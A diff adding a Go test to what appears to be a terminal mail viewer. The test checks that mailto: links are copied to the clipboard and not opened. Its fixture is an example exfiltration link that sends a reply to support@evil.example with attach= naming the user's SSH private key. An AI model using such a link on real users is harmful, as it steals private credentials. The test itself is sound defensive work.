@@ -375,6 +375,32 @@ func TestLinkOfAnotherSchemeIsOnlyCopied(t *testing.T) {
 	}
 }
 
+// TestMailtoLinkNamingAFileIsOnlyCopied: Enter on a sender's mailto:
+// link with attach= started the browser (xdg-open: the mail client) on
+// it, which attaches the file it names to the reply; it is copied, the
+// browser not started, and the notice says why.
+func TestMailtoLinkNamingAFileIsOnlyCopied(t *testing.T) {
+	t.Setenv("SSH_CONNECTION", "")
+	t.Setenv("SSH_TTY", "")
+	log := filepath.Join(t.TempDir(), "browser.log")
+	t.Setenv("BROWSER", writeScript(t, "printf '%s\\n' \"$@\" >> "+log))
+	m, term := newViewer(t, 100, 30, newsletter)
+	url := "mailto:support@evil.example?subject=Re%3A%20invoice&attach=%2Fhome%2Fme%2F.ssh%2Fid_rsa"
+	m.links = []mime.Link{{URL: url}}
+	m, _ = press(t, m, "l")
+	_, msgs := pressAll(t, m, "enter")
+	lo, ok := msgs[0].(LinkOpenedMsg)
+	if !ok || !lo.Copied || !strings.Contains(lo.Why, "mailto:") {
+		t.Fatalf("got %#v", msgs[0])
+	}
+	if !strings.Contains(term.String(), "\x1b]52;c;"+base64.StdEncoding.EncodeToString([]byte(url))) {
+		t.Errorf("not copied: the terminal got %q", term.String())
+	}
+	if b, err := os.ReadFile(log); err == nil {
+		t.Errorf("the browser was started with %q", b)
+	}
+}
+
 func TestOpenHTMLUsesSafePrivateCopy(t *testing.T) {
 	rt := t.TempDir()
 	t.Setenv("XDG_RUNTIME_DIR", rt)
